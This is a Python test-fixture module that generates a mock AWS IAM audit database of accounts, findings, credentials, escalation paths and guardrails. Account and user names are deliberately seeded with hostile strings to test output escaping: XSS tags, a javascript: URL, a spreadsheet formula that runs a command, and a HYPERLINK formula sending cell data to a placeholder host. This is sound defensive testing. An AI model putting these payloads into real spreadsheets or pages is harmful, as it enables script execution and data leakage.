"""The rows of the small published database: accounts, OUs, controls, and what was found each night."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime, time, timedelta
from typing import Any

from pipeline.warehouse.headers import PRACTICES

NIGHTS = [date(2026, 11, 20) + timedelta(days=n) for n in range(5)]
AS_OF = NIGHTS[-1]
FORMULA = '=HYPERLINK("https://x.invalid/?"&A1,"Me,\u202e too")'
HOSTILE = "<script>alert('x')</script> \"R&D\" \u202egnp.exe Zoë 東京"
NAMES = (
    HOSTILE,
    "=cmd|'/C calc'!A0",
    '"><img src=x onerror="window.ran=1">',
    "</script></textarea></title><script>window.ran=1</script>",
    "`${window.ran=1}` {{ 7 * 7 }} {% raw %}",
    "a\u200bb\ufeffc\u2066d\u200f",
    "👩‍💻 one\ntwo\tthree",
    "R&D +100% ?#<b>",
    "W" * 2000,
)
"""What people of the organization may have named things: none of it may ever be more than text."""
FORMULA, IMAGE, END, TEMPLATE, INVISIBLE, LINES, SIGNS, ENDLESS = NAMES[1:]
CROWDED = "999999999999"
"""The account with more findings than a page shows at first, and the oddest names."""
LONG = "arn:aws:iam::222222222222:role/service-role/" + "very-long-team-name/" * 14 + "Deploy"

ACCOUNTS = [
    # id, name, state, ou, owner, environment, read status, reason
    ("111111111111", "management", "ACTIVE", "r-root", "platform", "prod", "read", None),
    ("222222222222", HOSTILE, "ACTIVE", "ou-prod", "R&D <lead>", "prod", "read", None),
    ("333333333333", "payments", "ACTIVE", "ou-prod", FORMULA, "prod", "read", None),
    (
        "444444444444",
        "locked-away",
        "ACTIVE",
        "ou-dev",
        "nobody",
        "dev",
        "not read",
        "AccessDenied when assuming the role",
    ),
    ("555555555555", "fenced", "ACTIVE", "ou-dev", None, "dev", "partly read", f"3 of 30 could not be read: {IMAGE}"),
    ("666666666666", "left", "SUSPENDED", "ou-dev", "gone", None, "not active", "The account is SUSPENDED"),
    ("777777777777", "elsewhere", "ACTIVE", "ou-dev", "other", "dev", "out of scope", "Left out by the settings"),
    (CROWDED, FORMULA, "ACTIVE", "ou-odd", ENDLESS, LINES, "read", None),
]
OUS = [
    ("r-root", None, "Root", "/", 0),
    ("ou-work", "r-root", "Workloads", "/Workloads", 1),
    ("ou-prod", "ou-work", "Production", "/Workloads/Production", 2),
    ("ou-dev", "ou-work", "Development", "/Workloads/Development", 2),
    ("ou-odd", "ou-work", SIGNS, f"/Workloads/{SIGNS}", 2),
    ("ou-void", "r-root", "Empty", "/Empty", 1),
]
CONTROLS = [
    ("no_human_iam_users", 1, "No IAM user has console access", "high"),
    ("iam_user_mfa", 3, "IAM users with console access have MFA", "high"),
    ("key_rotation", 4, "Active access keys are younger than 90 days", "medium"),
    ("root_mfa", 5, "Root has MFA wherever it has credentials", "critical"),
    ("idc_mfa_attested", 3, "Identity Center MFA is attested", "high"),
    ("unused_roles", 9, "Unused roles are removed", "low"),
    ("scp_coverage", 13, "Every member account has a service control policy", "high"),
]
GUARDING = [
    ("scp_objectives", 13, "SCPs meet each objective", "high"),
    ("rcp_objectives", 13, "RCPs meet each objective", "high"),
]
"""Controls whose findings stand in `guardrails` alone."""
JUDGED = [a for a in ACCOUNTS if a[6] in ("read", "partly read", "not read")]

Finding = dict[str, Any]


def many(count: int) -> list[tuple[Any, ...]]:
    """The accounts above and `count` more that were all read, for what only shows at size."""
    more = [
        (
            f"{880000000000 + n * 37}",
            f"team-{n:04d}",
            "ACTIVE",
            ("ou-prod", "ou-dev")[n % 2],
            f"team {n % 9}",
            "prod",
            "read",
            None,
        )
        for n in range(count)
    ]
    return [*ACCOUNTS, *more]


def findings(night: date, accounts: Sequence[tuple[Any, ...]] = JUDGED) -> Iterator[Finding]:
    """The findings of a night. Things get better by the night; one user is new on the last, one role fails again."""
    index = NIGHTS.index(night)
    for account in accounts:
        for number, (control, practice, _, _) in enumerate(CONTROLS):
            fenced = account[6] == "partly read" and number in (1, 2, 4) and night >= NIGHTS[2]
            if account[6] == "not read" or fenced:
                yield _finding(night, control, practice, account[0], "", "unknown", "iam:GetCredentialReport: scp_deny")
                continue
            if control == "idc_mfa_attested":
                told = ("manual", "No API tells; no attestation stands")
                if account[1] != "management":
                    told = ("not_applicable", "The organization attests it once")
                yield _finding(night, control, practice, account[0], "", *told)
                continue
            if control == "scp_coverage" and account[1] == "management":
                yield _finding(night, control, practice, account[0], "", "not_applicable", "SCPs do not bind it")
                continue
            for user in range(4):
                better = (user * 7 + number * 5 + int(account[0][-4:])) % 12 >= 4 - index // 2
                name = f"user/{'<b>alice</b>' if user == 0 else f'person-{user}'}"
                verdict = "pass" if better else "fail"
                if user == 3 and control == "key_rotation":
                    verdict = "exempt"
                yield _finding(night, control, practice, account[0], name, verdict, f"Its age is {40 * user} days")
    again = "pass" if index == 2 else "fail"
    yield _finding(night, "unused_roles", 9, "333333333333", "role/again", again, "Unused for 91 days")
    for number in range(120 if any(a[0] == CROWDED and a[6] == "read" for a in accounts) else 0):
        name = NAMES[number % len(NAMES)]
        found = _finding(night, "scp_coverage", 13, CROWDED, f"role/{number:03d}/{name}", "fail", f"{number} {name}")
        yield {**found, "evidence": json.dumps({"Sid": name}), "first_seen": NIGHTS[number % (index + 1)]}
    if index == len(NIGHTS) - 1:
        found = _finding(night, "unused_roles", 9, "222222222222", "", "fail", "Unused for 211 days")
        yield {**found, "resource": LONG, "first_seen": night}


def _finding(night: date, control: str, practice: int, account: str, name: str, verdict: str, reason: str) -> Finding:
    return {
        "as_of": night,
        "control_id": control,
        "practice": practice,
        "account_id": account,
        "region": "global",
        "resource": f"arn:aws:iam::{account}:{name or 'root'}",
        "verdict": verdict,
        "reason": reason,
        "evidence": json.dumps({"name": name, "html": "</script><img src=x onerror=alert(1)>"}),
        "first_seen": NIGHTS[0],
        "last_changed": night,
    }


def content(nights: Sequence[date], accounts: Sequence[tuple[Any, ...]], clean: bool) -> dict[str, Iterable[Finding]]:
    judged = [a for a in accounts if a[6] in ("read", "partly read", "not read")]
    if clean:
        accounts = judged = [(*a[:6], "read", None) for a in judged]
    as_of = nights[-1]
    return {
        "contract": [{"version": 1, "as_of": as_of, "read_at": datetime.combine(as_of, time(2))}],
        "controls": _controls(),
        "control_operations": _control_operations(),
        "accounts": _accounts(accounts),
        "organizational_units": _ous(judged),
        "findings": [f for night in nights for f in findings(night, judged)],
        "nights": [{"as_of": n, "published": True, "held_back_reason": None} for n in nights]
        + [{"as_of": nights[0] - timedelta(days=1), "published": False, "held_back_reason": "accounts: 2 keys twice"}]
        * (not clean),
        "systems": _systems(as_of),
        "coverage": _coverage(as_of, judged),
        "ledger": _ledger(as_of, judged),
        "quality_results": _quality(as_of, clean),
        "knowledge": _knowledge(as_of),
        "knowledge_gaps": [] if clean else _gaps(),
        "exceptions": [] if clean else _exceptions(as_of),
        "least_privilege": _least_privilege(as_of, judged),
        "policy_proposals": _policy_proposals(as_of, judged),
        "principals": _principals(judged),
        "principal_reach": _reach(judged),
        "role_trusts": _trusts(judged),
        "principal_escalations": _escalations(judged),
        "credentials": _credentials(judged),
        "guardrails": _guardrails(as_of, judged),
        "key_triage": _keys(judged),
    }


def _controls() -> Iterator[Finding]:
    for n, (control, practice, title, severity) in enumerate([*CONTROLS, *GUARDING]):
        yield {
            "control_id": control,
            "number": f"BP{practice:02d}-{n:02d}",
            "title": title,
            "practice": practice,
            "practice_title": PRACTICES[practice],
            "severity": severity,
            "scope": "account",
            "fixed_by": "organization" if practice == 13 else "account",
            "why": "Because <b>it</b> matters & is asked for.",
            "fix": "Remove what is not needed; see who uses it first.",
            "may_break": "A job that still uses it." if n % 2 else None,
            "frameworks": json.dumps({"cis_aws_7": "2.12", "security_hub": "IAM.3", "prowler": control}),
            "params": json.dumps({"max_age_days": 90} if n == 2 else {}),
            "reads": ["users", "credential_report"],
            "query": "select account_id, resource, verdict\nfrom stg_users\nwhere age_days < 90",
        }


def _control_operations() -> Iterator[Finding]:
    for control, *_ in CONTROLS:
        for operation in ("iam:GetAccountAuthorizationDetails", "iam:GetCredentialReport"):
            yield {"control_id": control, "operation": operation, "scope": "account"}
        yield {"control_id": control, "operation": "organizations:ListAccounts", "scope": "organization"}


def _systems(as_of: date) -> Iterator[Finding]:
    counts = {"pass": 1200, "fail": 3, "exempt": 1, "not_applicable": 0, "unknown": 2, "manual": 0}
    for practice in sorted({control[1] for control in CONTROLS}):
        yield {"as_of": as_of, "practice": practice, "system": "IAM <users>", "controls": ["a"]} | counts


def _accounts(accounts: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    paths = {o[0]: o[3] for o in OUS}
    for id, name, state, ou, owner, environment, status, reason in accounts:
        yield {
            "account_id": id,
            "name": name,
            "email": f"aws+{id}@example.com",
            "state": state,
            "ou_id": ou,
            "ou_path": paths[ou],
            "owner": owner,
            "environment": environment,
            "tags": json.dumps({"owner": owner}),
            "is_management": name == "management",
            "is_in_scope": status != "out of scope",
            "read_status": status,
            "read_reason": reason,
        }


def _ous(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    paths = {o[0]: o[3] for o in OUS}
    for id, parent, name, path, depth in OUS:
        inside = sum(paths[a[3]] == path or paths[a[3]].startswith(path.rstrip("/") + "/") for a in judged)
        yield {"ou_id": id, "parent_id": parent, "name": name, "ou_path": path, "depth": depth, "accounts": inside}


def _coverage(night: date, judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    for account in judged:
        for dataset in ("users", "roles", "credential_report"):
            role = account[6] == "not read"
            failed = role or (account[6] == "partly read" and dataset == "credential_report")
            deny = f"User: arn:aws:sts::1:assumed-role/{END} is not authorized: iam:GetCredentialReport <explicit deny>"
            yield {
                "as_of": night,
                "account_id": account[0],
                "region": "global",
                "dataset": dataset,
                "status": "failed" if failed else "ok",
                "rows": 0 if failed else 12,
                "operation": None if not failed else "sts:AssumeRole" if role else "iam:GetCredentialReport",
                "error_class": None if not failed else "assume_role_failed" if role else "scp_deny",
                "error_code": "AccessDenied" if failed else None,
                "message": deny if failed else None,
                "controls": [CONTROLS[n][0] for n in (1, 2, 4)]
                if dataset == "credential_report"
                else [c[0] for c in CONTROLS],
                "accepted_by": "accepted_gaps[1]" if role else None,
            }


def _ledger(as_of: date, judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    at = datetime(as_of.year, as_of.month, as_of.day, 2, 4)
    for account in judged:
        for operation in ("iam:GetAccountAuthorizationDetails", "iam:GetCredentialReport"):
            failed = account[6] == "not read"
            yield {
                "as_of": as_of,
                "account_id": account[0],
                "region": "global",
                "operation": operation,
                "status": "failed" if failed else "ok",
                "error_class": "assume_role_failed" if failed else None,
                "error_code": "AccessDenied" if failed else None,
                "message": "no" if failed else None,
                "calls": 0 if failed else 3,
                "attempts": 3,
                "rows": 0 if failed else 120,
                "seconds": 0.42,
                "data_time": None if failed else at - timedelta(minutes=int(account[0][0])),
            }


def _quality(as_of: date, clean: bool) -> Iterator[Finding]:
    for dataset in ("users", "roles", "accounts"):
        for check in ("key_is_unique", "account_id_matches", "created_at_is_set"):
            passed = clean or not (dataset == "roles" and check == "key_is_unique")
            yield {
                "as_of": as_of,
                "dataset": dataset,
                "check_name": check,
                "expectation": "expect_compound_columns_to_be_unique",
                "severity": "blocking" if passed else "warning",
                "passed": passed,
                "unexpected_count": 0 if passed else 2,
                "sample": json.dumps(
                    [] if passed else [{"account_id": "222222222222", "role_name": name} for name in NAMES]
                ),
                "message": None if passed else f"2 rows share a key: {IMAGE}",
                "accepted_by": None if passed else "exception 1",
            }


def _knowledge(as_of: date) -> Iterator[Finding]:
    for name, age in (("service_authorization", 27), ("vendor_accounts", 432)):
        yield {
            "name": name,
            "title": f"Names of {name}",
            "read_on": as_of - timedelta(days=age),
            "age_days": age,
            "is_old": age > 120,
            "off_list": "It is unknown.",
        }


def _gaps() -> Iterator[Finding]:
    yield {"kind": "condition key", "name": "aws:NewKey", "times": 3, "accounts": ["222222222222"], "sample": None}
    yield {"kind": "action", "name": IMAGE, "times": 1, "accounts": ["222222222222"], "sample": None}


def _exceptions(as_of: date) -> Iterator[Finding]:
    for n, (live, covers) in enumerate([(True, 4), (True, 0), (False, 0)]):
        yield {
            "entry": f"exception {n + 1}",
            "kind": "exception" if n < 2 else "attestation",
            "control_id": "key_rotation",
            "account_id": "333333333333" if n else None,
            "resource": "arn:aws:iam::*:user/person-3" if n == 0 else None,
            "owner": ("platform", FORMULA, INVISIBLE)[n],
            "reason": ("Vendor <client> cannot assume a role", END, TEMPLATE)[n],
            "ticket": ("SEC-42", IMAGE, ENDLESS)[n],
            "evidence_url": "javascript:alert(1)" if n == 2 else None,
            "use_case": "third-party client",
            "expires_on": as_of + timedelta(days=60 if live else -3),
            "is_live": live,
            "state": "live" if live else "expired",
            "covers": covers,
            "service_principal": None,
            "dataset": None,
            "check_name": None,
        }


def _least_privilege(as_of: date, judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    """A role of every account that was read, an unused one where partly read, and a user of whom nothing is known."""
    read = [account[0] for account in judged if account[6] == "read"]
    idle = {"used_services": 0, "services_in_use": [], "used_percent": 0.0, "last_used_on": None, "has_proposal": False}
    partly = [(account[0], idle) for account in judged if account[6] == "partly read"]
    for place, (account_id, more) in enumerate([*((a, {}) for a in read), *partly], start=1):
        yield {
            "place": place,
            "account_id": account_id,
            "arn": f"arn:aws:iam::{account_id}:role/wide",
            "principal_type": "role",
            "name": NAMES[place % len(NAMES)] if account_id == CROWDED else "wide <script>alert('role')</script>",
            "data_status": "known",
            "data_reason": None,
            "read_on": as_of,
            "granted_services": 3,
            "used_services": 1,
            "unused_services": 2,
            "services_in_use": ["s3"],
            "services_not_used": ["ec2", "iam"],
            "used_percent": 33.3,
            "granted_actions": 1200,
            "used_actions": 2,
            "unused_actions": 1100,
            "last_used_on": as_of - timedelta(days=9),
            "is_admin": "yes",
            "sensitive_actions": 3,
            "escalation_paths": 1,
            "weight": 110.5,
            "has_proposal": True,
            "used_days": 90,
        } | more
    nothing = dict.fromkeys(("place", "read_on", "granted_services", "used_services", "unused_services", "weight"))
    nothing |= dict.fromkeys(("services_in_use", "services_not_used", "used_percent", "used_actions", "last_used_on"))
    yield nothing | {
        "account_id": "222222222222",
        "arn": "arn:aws:iam::222222222222:user/person-0",
        "principal_type": "user",
        "name": "person-0",
        "data_status": "unknown",
        "data_reason": "AWS could not make the report: <too much>.",
        "granted_actions": 7,
        "unused_actions": None,
        "is_admin": "no",
        "sensitive_actions": 0,
        "escalation_paths": 0,
        "has_proposal": False,
        "used_days": 90,
    }


def _policy_proposals(as_of: date, judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    """One policy for most, two for the second, none for the third."""
    statement = {"Sid": END, "Effect": "Allow", "Action": "s3:*", "Resource": "arn:aws:s3:::</script>/*"}
    policy = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    for row in _least_privilege(as_of, judged):
        if row["has_proposal"]:
            policies = {2: [policy, policy], 3: []}.get(row["place"], [policy])
            kept = ("place", "account_id", "arn", "principal_type", "name")
            yield {name: row[name] for name in kept} | {
                "source": "access_analyzer" if row["place"] == 2 else "last_accessed",
                "generated_on": as_of if row["place"] == 2 else None,
                "policies": policies,
                "size_characters": len(policies) * 110,
                "removed_services": ["ec2", "iam"],
                "removed_actions": [f"s3:Get{n}" for n in range(60)],
                "replaces": json.dumps(
                    [{"name": name, "arn": None, "via_group": "people"} for name in ("all <b>", IMAGE, ENDLESS)]
                ),
                "problems": [] if policies else ["Could not be read: all <b>."],
                "notes": ["It is a member of groups."],
            }


def _principals(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    for account in judged:
        for n in range(5 if account[6] != "not read" else 0):
            kind = "user" if n < 4 else "role"
            yield {
                "account_id": account[0],
                "principal_type": kind,
                "arn": f"arn:aws:iam::{account[0]}:{kind}/person-{n}",
                "name": f"person-{n}",
                "path": "/",
                "created_at": datetime(2025, 1, 2),
                "last_used_at": None,
                "owner": None,
                "permissions_boundary_arn": None,
                "is_service_linked": False,
                "is_identity_center": False,
                "has_console": n < 2,
                "has_mfa": n == 0,
                "active_access_keys": n % 2,
            }


def _trusts(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    """The role trusts an account under a condition, and does not let somebody in whom it names."""
    for account_id, *_, status, _ in judged:
        for number, (principal, lets_in) in enumerate([("222222222222", "depends"), ("<b>*</b>", "no")], 1):
            if status != "not read":
                yield {
                    "account_id": account_id,
                    "role_arn": f"arn:aws:iam::{account_id}:role/person-4",
                    "statement": number,
                    "sid": "",
                    "principal_kind": "account",
                    "principal": principal,
                    "relation": "external",
                    "lets_in": lets_in,
                    "outside_accounts": [principal],
                    "condition_keys": ["sts:ExternalId"],
                    "pins_external_id": True,
                    "pins_mfa": False,
                    "pins_subject": None,
                    "malformed_reason": None,
                }


def _reach(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    """A user who is an administrator, one who can become one in two steps, and a role that could under conditions."""
    for account_id, *_, status, _ in judged:
        arn = f"arn:aws:iam::{account_id}"
        hops = [
            {"how": "sts:AssumeRole", "target": f"{arn}:role/person-4"},
            {"how": "policy-version", "target": f"administrator of {account_id}"},
        ]
        for kind, n, is_admin, steps, possible, via in (
            ("user", 0, "yes", 0, 0, []),
            ("user", 1, "no", 2, 2, hops),
            ("user", 2, "no", None, None, []),
            ("role", 4, "no", None, 1, hops[1:]),
        ):
            if status != "not read":
                yield {
                    "account_id": account_id,
                    "principal_type": kind,
                    "principal_arn": f"{arn}:{kind}/person-{n}",
                    "is_admin": is_admin,
                    "steps": steps,
                    "possible_steps": possible,
                    "via": json.dumps(via),
                }


def _escalations(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    for account_id, *_ in judged:
        arn = f"arn:aws:iam::{account_id}:role/person-4"
        title = "Write a <new> version of a policy"
        path = {"path_id": "policy-version", "title": title, "verdict": "depends"}
        yield {"account_id": account_id, "principal_arn": arn, **path}


def _credentials(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    for account in judged:
        if account[6] != "read":
            continue
        for n, kind in enumerate(["password", "password", "access key", "access key", "SSH key"]):
            yield {
                "account_id": account[0],
                "user_name": NAMES[n + 1] if account[0] == CROWDED else f"person-{n}",
                "user_arn": f"arn:aws:iam::{account[0]}:user/person-{n}",
                "is_root": False,
                "kind": kind,
                "credential": f"{kind} {n}",
                "is_active": n != 3,
                "created_at": datetime(2025, 1, 2),
                "age_days": 100 * n,
                "last_used_at": None,
                "unused_days": 30 * n if n else None,
                "last_used_service": "s3",
                "last_used_region": "eu-west-1",
                "expires_at": None,
                "owner": None,
            }


def _keys(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    powers = (("yes", 0, "administrator"), ("no", 2, "can become administrator"), (None, None, "unknown"))
    read = [account[0] for account in judged if account[6] == "read"]
    for place, account_id in enumerate(read, start=1):
        is_admin, steps, power = powers[min(place, len(powers)) - 1]
        yield {
            "account_id": account_id,
            "user_name": IMAGE if account_id == CROWDED else "person-2 <svc>",
            "credential": "access key 1",
            "age_days": 200,
            "unused_days": None,
            "last_used_service": None,
            "owner": None,
            "advice": "deactivate",
            "advice_reason": "Never used in the 200 days that it exists.",
            "user_arn": f"arn:aws:iam::{account_id}:user/person-2 <svc>",
            "is_admin": is_admin,
            "steps_to_admin": steps,
            "power": power,
            "place": place,
        }


OBJECTIVES = [
    ("SERVICE_CONTROL_POLICY", "leave_organization", "Member accounts cannot leave the organization"),
    ("SERVICE_CONTROL_POLICY", "root_user", "Root users of member accounts can do nothing that matters"),
    ("RESOURCE_CONTROL_POLICY", "tls_only", "Requests to buckets and queues without TLS are denied"),
]


def _guardrails(as_of: date, judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
    """Every verdict: the management account is bound by none, and where nothing was read nothing is known."""
    for index, (account_id, name, _, _, _, _, status, _) in enumerate(judged):
        for number, (policy_type, objective, title) in enumerate(OBJECTIVES):
            told = (
                ("pass", f"{title}.")
                if (index + number) % 3
                else ("fail", f"Not met ({title}): <b>x:Y</b> would pass.")
            )
            if name == "management":
                told = ("not_applicable", "SCPs never bind the management account.")
            elif status == "not read":
                told = ("unknown", "sts:AssumeRole failed (assume_role_failed): <no>")
            elif index == 2 and number == 2:
                told = ("exempt", f"Not met ({title}). Accepted by platform until {as_of}: a partner.")
            yield {
                "as_of": as_of,
                "account_id": account_id,
                "policy_type": policy_type,
                "objective": objective,
                "title": title,
                "verdict": told[0],
                "reason": told[1],
            }
